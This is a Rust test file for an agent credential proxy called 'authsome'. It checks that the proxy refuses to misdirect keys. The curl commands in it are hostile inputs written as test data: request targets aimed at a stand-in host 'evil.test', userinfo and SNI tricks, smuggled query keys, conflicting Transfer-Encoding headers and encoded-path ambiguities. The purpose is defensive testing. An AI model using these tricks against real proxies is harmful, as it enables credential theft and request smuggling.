//! Hardening of the proxy (issue #10, "The proxy"): what an agent can put
//! in a request to make authsome send a credential somewhere else than the
//! route that picked it, or to reach authsome itself. Every check is judged
//! by what the recording upstream received.

use crate::common::lab::Lab;

/// `-s` and the status on the last line.
const CURL: &str = "curl -sS -w '\\n%{http_code}'";

/// The three-digit status lines of `out`, in order.
fn codes(out: &str) -> Vec<&str> {
    out.lines()
        .filter(|l| l.len() == 3 && l.chars().all(|c| c.is_ascii_digit()))
        .collect()
}

#[test]
fn absolute_form_for_another_authority_inside_a_tunnel_is_misdirected() {
    let lab = Lab::new();
    // The tunnel is opened to api.acme.test:$UP; each request line names
    // another authority (Host stays api.acme.test:$UP, as curl sends it).
    let out = lab
        .run_sh(&format!(
            "{CURL} --http1.1 --request-target \"https://evil.test:$UP/1\" \"$URL/\"; echo; \
             {CURL} --http1.1 --request-target \"https://api.acme.test@evil.test:$UP/2\" \"$URL/\"; echo; \
             {CURL} --http1.1 --request-target \"https://api.acme.test/3\" \"$URL/\"; echo; \
             {CURL} --http1.1 --request-target \"http://api.acme.test:$UP/4\" \"$URL/\"; echo; \
             {CURL} --http1.1 --request-target \"https://evil.test@API.Acme.test.:$UP/5\" \"$URL/\"; echo; \
             {CURL} --http1.1 --request-target \"/6\" \"$URL/\""
        ))
        .success();
    assert_eq!(
        codes(&out.stdout),
        vec!["421", "421", "421", "421", "200", "200"],
        "{}",
        out.stdout
    );
    assert!(out.stdout.contains("authsome_misdirected_request"));
    let recs = lab.up.records();
    let paths: Vec<&str> = recs.iter().map(|r| r.path.as_str()).collect();
    assert_eq!(paths, vec!["/5", "/6"], "{recs:?}");
    for r in &recs {
        assert_eq!(r.all("authorization"), vec![format!("Bearer {}", lab.key)]);
    }
}

/// A name that is not `localhost` but that the system resolver maps to
/// 127.0.0.1 (where the daemon listens), through `/etc/hosts` or
/// nss-myhostname: the machine's own name on most boxes. The proxy must find
/// out by resolving it, not from a list of names.
fn loopback_name() -> String {
    use std::net::ToSocketAddrs;
    let hostname = std::fs::read_to_string("/proc/sys/kernel/hostname")
        .unwrap_or_default()
        .trim()
        .to_string();
    let candidates = [hostname.as_str(), "localhost.localdomain", "localhost4"];
    for name in candidates {
        if name.is_empty() || name == "localhost" || name.ends_with(".localhost") {
            continue;
        }
        let Ok(addrs) = (name, 1).to_socket_addrs() else {
            continue;
        };
        let addrs: Vec<_> = addrs.collect();
        if addrs
            .iter()
            .any(|a| a.ip() == std::net::Ipv4Addr::LOCALHOST)
            && addrs.iter().all(|a| a.ip().is_loopback())
        {
            return name.to_string();
        }
    }
    panic!(
        "this test needs a name other than localhost that the system resolver maps to 127.0.0.1 \
         (tried {candidates:?}); add `127.0.0.1 {hostname}` to /etc/hosts"
    );
}

#[test]
fn the_loop_guard_resolves_names_and_knows_every_listener() {
    let name = loopback_name();
    let lab = Lab::new();
    lab.cmd(["daemon", "start"]).run().success();
    let daemon_port = lab.home.daemon().unwrap()["port"].as_u64().unwrap();
    // The system-wide proxy listener (AUTHSOME_PROXY_PORT=0: some free port).
    lab.cmd(["proxy", "env"]).run().success();
    let status = lab
        .cmd(["proxy", "status", "--json"])
        .run()
        .success()
        .json();
    let system_port = status["system"]["port"].as_u64().unwrap();
    // One run inside another: the inner run's proxy must refuse the outer
    // run's listener too.
    let inner = format!(
        "{CURL} --noproxy '' -x \"$HTTPS_PROXY\" http://{name}:$OUTER/; echo; \
         {CURL} --noproxy '' -x \"$HTTPS_PROXY\" https://{name}:$OUTER/; echo \" curl=$?\""
    );
    // The outer run is unconfined: its child starts the inner run, which
    // needs the daemon (a confined child could not reach it).
    let out = lab
        .run_sh_with(&["--no-sandbox"], &format!(
            "P=${{HTTPS_PROXY##*:}}; \
             {CURL} --noproxy '' -x \"$HTTPS_PROXY\" http://{name}:{daemon_port}/api/health; echo; \
             {CURL} --noproxy '' -x \"$HTTPS_PROXY\" -k https://{name}:{daemon_port}/api/health; echo \" curl=$?\"; \
             {CURL} --noproxy '' -x \"$HTTPS_PROXY\" http://{name}:$P/; echo; \
             {CURL} --noproxy '' -x \"$HTTPS_PROXY\" http://{name}:{system_port}/; echo; \
             {CURL} --noproxy '' -x \"$HTTPS_PROXY\" https://{name}:{system_port}/; echo \" curl=$?\"; \
             OUTER=$P env -u AUTHSOME_RUN \"$BIN\" run -- sh -c '{}'",
            inner.replace('\'', "'\\''")
        ))
        .success();
    assert_eq!(
        out.stdout.matches("authsome_loop_refused").count(),
        4,
        "absolute-form requests to authsome by name are refused: {}",
        out.stdout
    );
    assert_eq!(
        out.stdout.matches("curl=56").count(),
        3,
        "CONNECTs to authsome by name are refused: {}",
        out.stdout
    );
    assert!(
        !out.stdout.contains("\"service\":\"authsome\""),
        "the daemon's API answered through the proxy: {}",
        out.stdout
    );
    assert!(!out.stdout.contains("authsome_proxy_auth_required"));
}

#[test]
fn every_form_of_the_query_parameter_is_replaced_by_exactly_one() {
    let lab = Lab::bare();
    lab.provider(
        "qp",
        &format!("api.acme.test:{}", lab.up.port),
        r#""api_key":{"format":"query","query_param":"key"}"#,
    );
    lab.cmd(["login", "qp", "--with-api-key"])
        .stdin(&lab.key)
        .run()
        .success();
    let out = lab
        .run_sh(&format!(
            "{CURL} -g \"$URL/1?q=1;key=b&key=a\"; echo; \
             {CURL} -g \"$URL/2?k%65y=a&q=1\"; echo; \
             {CURL} -g \"$URL/3?KEY=a&Key=b\"; echo; \
             {CURL} -g \"$URL/4?key%5B%5D=a&key[]=b&key[0]=c\"; echo; \
             {CURL} -g \"$URL/5?a=1;b=2&key+=x&%20key=y\"; echo; \
             {CURL} -g \"$URL/6?keys=1&monkey=2\""
        ))
        .success();
    assert_eq!(codes(&out.stdout), vec!["200"; 6], "{}", out.stdout);
    let recs = lab.up.records();
    let paths: Vec<&str> = recs.iter().map(|r| r.path.as_str()).collect();
    let ours = format!("key={}", lab.key);
    assert_eq!(
        paths,
        vec![
            format!("/1?q=1&{ours}"),
            format!("/2?q=1&{ours}"),
            format!("/3?{ours}"),
            format!("/4?{ours}"),
            format!("/5?a=1;b=2&{ours}"),
            format!("/6?keys=1&monkey=2&{ours}"),
        ],
        "{recs:?}"
    );
}

#[test]
fn the_clients_framing_headers_are_not_forwarded() {
    let lab = Lab::new();
    let out = lab
        .run_sh(&format!(
            "printf hello | \
             {CURL} --http1.1 -H 'Transfer-Encoding: identity, chunked' --data-binary @- \"$URL/te\"; echo; printf hello | \
             {CURL} -H 'Transfer-Encoding: identity, chunked' --data-binary @- \"http://upstream.test:$HTTP_UP/plain\""
        ))
        .success();
    assert_eq!(codes(&out.stdout), vec!["200", "200"], "{}", out.stdout);
    let recs = lab.up.records();
    assert_eq!(recs.len(), 2, "{recs:?}");
    for r in &recs {
        let te = r.all("transfer-encoding");
        assert!(
            te.is_empty() || te == vec!["chunked".to_string()],
            "the client's framing reached upstream: {r:?}"
        );
    }
    assert_eq!(
        recs[0].all("authorization"),
        vec![format!("Bearer {}", lab.key)]
    );
}

#[test]
fn ambiguous_paths_on_a_path_scoped_host_never_pick_the_wrong_key() {
    let lab = Lab::new();
    // `acme` has the whole host; `acme-drive` has /v1/drive on it.
    lab.provider(
        "acme-drive",
        &format!("api.acme.test:{}/v1/drive", lab.up.port),
        r#""api_key":{"header_name":"x-drive-key","header_prefix":null}"#,
    );
    let drive_key = crate::common::canary("AKDRIVE_");
    lab.cmd(["login", "acme-drive", "--with-api-key"])
        .stdin(&drive_key)
        .run()
        .success();
    let out = lab
        .run_sh(&format!(
            "{CURL} --path-as-is \"$URL/v1/driv%65/a\"; echo; \
             {CURL} --path-as-is \"$URL/v1/%64rive/b?x=%65\"; echo; \
             {CURL} --path-as-is \"$URL/v1//drive/c\"; echo; \
             {CURL} --path-as-is \"$URL//v1/drive/d\"; echo; \
             {CURL} --path-as-is \"$URL/v1/drive/e%2Dok\"; echo; \
             {CURL} --path-as-is \"$URL/v1/other/f%C3%A9\""
        ))
        .success();
    assert_eq!(
        codes(&out.stdout),
        vec!["200", "200", "400", "400", "200", "200"],
        "{}",
        out.stdout
    );
    assert!(out.stdout.contains("authsome_ambiguous_path"));
    let recs = lab.up.records();
    let seen: Vec<(&str, Vec<String>, Vec<String>)> = recs
        .iter()
        .map(|r| {
            (
                r.path.as_str(),
                r.all("x-drive-key"),
                r.all("authorization"),
            )
        })
        .collect();
    let acme = vec![format!("Bearer {}", lab.key)];
    let drive = vec![drive_key.clone()];
    assert_eq!(
        seen,
        vec![
            ("/v1/drive/a", drive.clone(), vec![]),
            ("/v1/drive/b?x=%65", drive.clone(), vec![]),
            ("/v1/drive/e-ok", drive.clone(), vec![]),
            ("/v1/other/f%C3%A9", vec![], acme.clone()),
        ],
        "{recs:?}"
    );
}

#[test]
fn a_client_hello_for_another_name_in_an_intercepted_tunnel_is_passed_through_blind() {
    let lab = Lab::new();
    // CONNECT api.acme.test (intercepted), then ask TLS for evil.test: the
    // bytes go, untouched, to api.acme.test's address; no credential.
    let out = lab
        .run_sh(&format!(
            "{CURL} --cacert {} --connect-to evil.test:$UP:api.acme.test:$UP \"https://evil.test:$UP/blind\"",
            crate::common::lab::CA
        ))
        .success();
    assert_eq!(codes(&out.stdout), vec!["200"], "{}", out.stdout);
    let recs = lab.up.records();
    assert_eq!(recs.len(), 1, "{recs:?}");
    assert_eq!(recs[0].path, "/blind");
    assert!(recs[0].all("authorization").is_empty(), "{recs:?}");
    assert!(!out.stdout.contains(&lab.key));
}

#[test]
fn plain_http_inside_an_intercepted_tunnel_gets_no_credential() {
    let lab = Lab::new();
    // `-p`: CONNECT api.acme.test:$UP, then plain HTTP inside the tunnel.
    let out = lab
        .run_sh(&format!(
            "{CURL} -p \"http://api.acme.test:$UP/plain\"; echo; \
             {CURL} -p --request-target \"http://evil.test:$UP/x\" \"http://api.acme.test:$UP/\""
        ))
        .success();
    assert_eq!(codes(&out.stdout), vec!["403", "421"], "{}", out.stdout);
    assert!(out.stdout.contains("authsome_plaintext_refused"));
    assert!(lab.up.records().is_empty(), "{:?}", lab.up.records());
}

/// An MCP server on a host that serves other things too (like
/// `huggingface.co/mcp`): the provider's rule is the endpoint's path, so an
/// MCP client's JSON-RPC POST there gets the key and a request elsewhere on
/// the host gets none; `provider show` names the endpoint.
#[test]
fn an_mcp_provider_on_a_shared_host_sends_its_key_to_the_endpoint_only() {
    let lab = Lab::bare();
    let port = lab.up.port;
    lab.provider(
        "acme-mcp",
        &format!("api.acme.test:{port}/mcp"),
        &format!(
            r#""type":"mcp","mcp":{{"url":"https://api.acme.test:{port}/mcp","transport":"streamable-http"}},"api_key":{{"header_name":"Authorization","header_prefix":"Bearer"}}"#
        ),
    );
    lab.cmd(["login", "acme-mcp", "--with-api-key"])
        .stdin(&lab.key)
        .run()
        .success();
    lab.cmd(["provider", "show", "acme-mcp"])
        .run()
        .success()
        .stdout_has(&format!(
            "mcp:       https://api.acme.test:{port}/mcp (streamable HTTP)"
        ));
    let out = lab
        .run_sh(&format!(
            "{CURL} -X POST -H 'Content-Type: application/json' \
               -H 'Accept: application/json, text/event-stream' \
               -d '{{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"initialize\",\"params\":{{}}}}' \
               \"$URL/mcp\"; echo; \
             {CURL} \"$URL/api/models\""
        ))
        .success();
    assert_eq!(codes(&out.stdout), vec!["200", "200"], "{}", out.stdout);
    assert!(!out.stdout.contains(&lab.key));
    let recs = lab.up.records();
    let seen: Vec<(&str, Vec<String>)> = recs
        .iter()
        .map(|r| (r.path.as_str(), r.all("authorization")))
        .collect();
    assert_eq!(
        seen,
        vec![
            ("/mcp", vec![format!("Bearer {}", lab.key)]),
            ("/api/models", vec![]),
        ]
    );
}
